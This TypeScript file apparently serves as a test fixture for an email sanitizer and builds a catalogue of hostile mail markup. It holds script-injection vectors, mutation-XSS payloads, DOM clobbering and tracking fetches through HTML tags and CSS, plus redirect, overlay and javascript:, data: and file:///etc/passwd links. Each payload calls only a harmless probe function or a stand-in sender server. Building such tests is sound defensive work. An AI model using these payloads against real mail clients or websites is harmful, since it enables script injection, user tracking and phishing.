/*
 * What hostile mails are made of. Each snippet tries to run `top.hit(name)`, to fetch `<base>/<name>`, or to lead the
 * page elsewhere. The base stands for a server of the sender's.
 */

/** Snippets by what they try. */
export function hostileSnippets(base: string): Readonly<Record<string, string>> {
  const run = (name: string) => `top.hit('${name}')`;
  const at = (name: string) => `${base}/${name}`;
  return { ...running(run, at), ...mutating(run), ...fetching(at), ...styling(at), ...leading(run, at) };
}

/** Those after which a parser reads nothing more as HTML; they stand last in a mail. */
export const swallowing: readonly string[] = ['frameset', 'plaintext', 'unclosed-comment', 'unclosed-style'];

type Run = (name: string) => string;

function running(run: Run, at: Run): Record<string, string> {
  return {
    script: `<script>${run('script')}</script>`,
    'script-src': `<script src="${at('script-src')}"></script>`,
    'script-module': `<script type="module">${run('script-module')}</script>`,
    'speculation-rules': `<script type="speculationrules">{"prefetch":[{"urls":["${at('speculation-rules')}"]}]}</script>`,
    onerror: `<img src="x:" onerror="${run('onerror')}">`,
    'onerror-unquoted': `<img src=x: onerror=${run('onerror-unquoted')}>`,
    'onerror-slash': `<img/src="x:"/onerror="${run('onerror-slash')}">`,
    onload: `<svg onload="${run('onload')}"></svg>`,
    'body-onload': `<body onload="${run('body-onload')}" onpageshow="${run('body-onload')}">`,
    ontoggle: `<details open ontoggle="${run('ontoggle')}"><summary>s</summary></details>`,
    autofocus: `<input autofocus onfocus="${run('autofocus')}">`,
    tabindex: `<p tabindex="1" autofocus onfocus="${run('tabindex')}">t</p>`,
    onanimation: `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="${run('onanimation')}">a</p>`,
    marquee: `<marquee onstart="${run('marquee')}">m</marquee>`,
    'svg-script': `<svg><script>${run('svg-script')}</script></svg>`,
    'svg-script-href': `<svg><script xlink:href="${at('svg-script-href')}"></script></svg>`,
    'svg-animate': `<svg><a><animate attributeName="href" values="javascript:${run('svg-animate')}"/><text y="20">x</text></a></svg>`,
    'svg-foreign': `<svg><foreignObject><iframe srcdoc="<script>${run('svg-foreign')}</script>"></iframe></foreignObject></svg>`,
    'math-href': `<math href="javascript:${run('math-href')}"><mtext>x</mtext></math>`,
    'iframe-srcdoc': `<iframe srcdoc="<script>${run('iframe-srcdoc')}</script>"></iframe>`,
    'iframe-js': `<iframe src="javascript:${run('iframe-js')}"></iframe>`,
    object: `<object data="data:text/html,<script>${run('object')}</script>"></object>`,
    embed: `<embed src="data:text/html,<script>${run('embed')}</script>">`,
    template: `<template><script>${run('template')}</script></template>`,
    'shadow-root': `<div><template shadowrootmode="open"><img src="x:" onerror="${run('shadow-root')}"></template></div>`,
    'custom-element': `<x-y onclick="${run('custom-element')}" is="script">c</x-y>`,
    clobber: `<form id="body"><input name="attributes"><input name="childNodes"></form><img name="getElementById"><a id="defaultView"></a><a id="kithProbe" href="${at('clobber')}"></a>`,
  };
}

/** Markup that becomes another when it is parsed a second time. */
function mutating(run: Run): Record<string, string> {
  const image = (name: string) => `<img src=x: onerror=${run(name)}>`;
  return {
    'mutate-math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image('mutate-math').replace('<', '&lt;')}">`,
    'mutate-svg': `<svg></p><style><a id="</style>${image('mutate-svg')}">`,
    'mutate-noscript': `<noscript><p title="</noscript>${image('mutate-noscript')}">`,
    'mutate-form': `<form><math><mtext></form><form><mglyph><style></math>${image('mutate-form')}`,
    'mutate-select': `<select><style></select>${image('mutate-select')}`,
    'mutate-xmp': `<xmp><p title="</xmp>${image('mutate-xmp')}">`,
    'mutate-style-name': `<style title="</style>${image('mutate-style-name')}">a{}</style>`,
    'mutate-xmp-styled': `<xmp data-kith-style="x">a{}</style>${image('mutate-xmp-styled')}</xmp>`,
    'mutate-textarea': `<textarea><p title="</textarea>${image('mutate-textarea')}">`,
    'mutate-title': `<title><p title="</title>${image('mutate-title')}">`,
    'mutate-comment': `<!--><img src="x:" onerror="${run('mutate-comment')}">-->`,
    'mutate-cdata': `<svg><![CDATA[><image xlink:href="]]>${image('mutate-cdata')}"></svg>`,
    'mutate-style-attribute': `<p title="<p style=">${image('mutate-style-attribute')}`,
    'mutate-deep': `${'<div>'.repeat(600)}${image('mutate-deep')}`,
  };
}

function fetching(at: Run): Record<string, string> {
  return {
    'img-srcset': `<img srcset="${at('img-srcset')} 1x">`,
    'img-lazy': `<img loading="lazy" src="${at('img-lazy.image')}">`,
    picture: `<picture><source srcset="${at('picture')}"><img src="${at('picture.image')}"></picture>`,
    image: `<image src="${at('image')}">`,
    'image-scheme': `<img src="${at('image-scheme.image').replace('http:', '')}">`,
    'input-image': `<input type="image" src="${at('input-image')}">`,
    'video-poster': `<video poster="${at('video-poster')}" src="${at('video')}" autoplay muted></video>`,
    audio: `<audio src="${at('audio')}" autoplay></audio>`,
    source: `<video autoplay muted><source src="${at('source')}"><track default src="${at('track')}"></video>`,
    'svg-image': `<svg><image href="${at('svg-image')}" xlink:href="${at('svg-image')}"/></svg>`,
    'svg-use': `<svg><use href="${at('svg-use')}#a"/></svg>`,
    'svg-filter': `<svg><filter id="f"><feImage href="${at('svg-filter')}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    iframe: `<iframe src="${at('iframe')}"></iframe>`,
    'object-data': `<object data="${at('object-data')}"></object>`,
    'embed-src': `<embed src="${at('embed-src')}">`,
    applet: `<applet code="${at('applet')}"></applet>`,
    bgsound: `<bgsound src="${at('bgsound')}">`,
    ...Object.fromEntries(
      [
        'stylesheet',
        'preload',
        'prefetch',
        'prerender',
        'modulepreload',
        'icon',
        'manifest',
        'dns-prefetch',
        'preconnect',
        'import',
        'dictionary',
      ].map((rel) => [`link-${rel}`, `<link rel="${rel}" as="image" href="${at(`link-${rel}`)}">`]),
    ),
    background: `<table background="${at('background.image')}"><tr><td background="${at('background-cell.image')}">x</td></tr></table>`,
    'xml-stylesheet': `<?xml-stylesheet href="${at('xml-stylesheet')}"?>`,
    'manifest-attribute': `<html manifest="${at('manifest-attribute')}">`,
    'csp-report': `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${at('csp-report')}">`,
    base: `<base href="${base(at)}"><img src="base">`,
    attribution: `<img attributionsrc="${at('attribution')}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
    relative: `<img src="/relative"><img src="relative">`,
  };
}

const base = (at: Run): string => at('');

function styling(at: Run): Record<string, string> {
  const sheet = (css: string) => `<style>${css}</style><p class="x">x</p>`;
  const url = (name: string) => `url(${at(name)})`;
  return {
    'css-import': sheet(`@import "${at('css-import')}"; @import ${url('css-import')};`),
    'css-font': sheet(`@font-face{font-family:f;src:${url('css-font')}} .x{font-family:f}`),
    'css-url': sheet(`.x{background:${url('css-url.image')}}`),
    'css-escape': sheet(`.x{background:u\\72l(${at('css-escape.image')})}`),
    'css-comment': sheet(`.x{background:/**/${url('css-comment.image')}/**/}`),
    'css-variable': sheet(`.x{--u:${url('css-variable')};background:var(--u)}`),
    'css-fallback': sheet(`.x{background:var(--none,${url('css-fallback')})}`),
    'css-image-set': sheet(`.x{background-image:image-set("${at('css-image-set')}" 1x)}`),
    'css-webkit-set': sheet(`.x{background-image:-webkit-image-set(${url('css-webkit-set')} 1x)}`),
    'css-content': sheet(`.x::before{content:${url('css-content.image')}}`),
    'css-cursor': sheet(`.x{cursor:${url('css-cursor.image')},auto}`),
    'css-list': sheet(`.x{display:list-item;list-style-image:${url('css-list.image')}}`),
    'css-border': sheet(`.x{border:9px solid;border-image:${url('css-border.image')} 1}`),
    'css-mask': sheet(`.x{mask:${url('css-mask.image')}}`),
    'css-filter': sheet(`.x{filter:${url('css-filter')}}`),
    'css-shape': sheet(`.x{float:left;shape-outside:${url('css-shape.image')}}`),
    'css-media': sheet(`@media all{@supports (color:red){.x{background:${url('css-media.image')}}}}`),
    'css-nested': sheet(`.x{color:red;&{background:${url('css-nested')}}}`),
    'css-layer': sheet(`@layer a{.x{background:${url('css-layer')}}}`),
    'css-property': sheet(
      `@property --p{syntax:"*";inherits:true;initial-value:${url('css-property')}} .x{background:var(--p)}`,
    ),
    'css-namespace': sheet(`@namespace ${url('css-namespace')};`),
    'css-expression': sheet(
      `.x{width:expression(top.hit('css-expression'));behavior:${url('css-expression')}}`,
    ),
    'css-comment-mark': `<style><!-- .y{background:${url('css-comment-mark.image')}} --></style><p class="y">y</p>`,
    'style-attribute': `<p style="background:${url('style-attribute.image')}">x</p>`,
    'style-attribute-escape': `<p style="background:\\75rl('${at('style-attribute-escape.image')}')">x</p>`,
    'style-attribute-slash': `<p/style="background:${url('style-attribute-slash.image')}">x</p>`,
    'style-attribute-own': `<p data-kith-style="background:${url('style-attribute-own.image')}">x</p>`,
    'style-svg': `<svg><style>.z{fill:${url('style-svg')}}</style><rect class="z"/></svg>`,
  };
}

function leading(run: Run, at: Run): Record<string, string> {
  return {
    refresh: `<meta http-equiv="refresh" content="0;url=${at('refresh')}">`,
    'refresh-js': `<meta http-equiv="refresh" content="0;url=javascript:${run('refresh-js')}">`,
    form: `<form action="${at('form')}" target="_top"><button id="submit-me">Continue</button></form>`,
    formaction: `<button formaction="${at('formaction')}" formtarget="_top">Go</button>`,
    overlay: `<div style="position:fixed;inset:0;z-index:2147483647;background:#fffc">overlay</div>`,
    'link-js': `<a class="hostile" target="_top" href="javascript:${run('link-js')}">one</a>`,
    'link-js-broken': `<a class="hostile" href="java&#10;script:${run('link-js-broken')}">two</a>`,
    'link-js-entity': `<a class="hostile" href="&#x6A;avascript&colon;${run('link-js-entity')}">three</a>`,
    'link-js-space': `<a class="hostile" href=" &#1;JaVaScRiPt:${run('link-js-space')}">four</a>`,
    'link-data': `<a class="hostile" href="data:text/html,<script>${run('link-data')}</script>">five</a>`,
    'link-vbscript': `<a class="hostile" href="vbscript:x">six</a>`,
    'link-file': `<a class="hostile" href="file:///etc/passwd">seven</a>`,
    'link-blob': `<a class="hostile" href="blob:${at('link-blob')}">eight</a>`,
    'link-relative': `<a class="hostile" href="/config.json">nine</a>`,
    'link-hash': `<a class="hostile" href="#/accounts">ten</a>`,
    'link-svg': `<svg><a class="hostile" xlink:href="javascript:${run('link-svg')}"><text y="20">eleven</text></a></svg>`,
    'link-ping': `<a id="ping" ping="${at('link-ping')}" target="_top" href="${at('link-followed')}">An ordinary link</a>`,
    area: `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><map name="m"><area class="hostile" shape="default" href="javascript:${run('area')}"></map>`,
    frameset: `<frameset onload="${run('frameset')}"><frame src="${at('frameset')}"></frameset>`,
    plaintext: `<plaintext>`,
    'unclosed-comment': `<!-- `,
    'unclosed-style': `<style>`,
  };
}
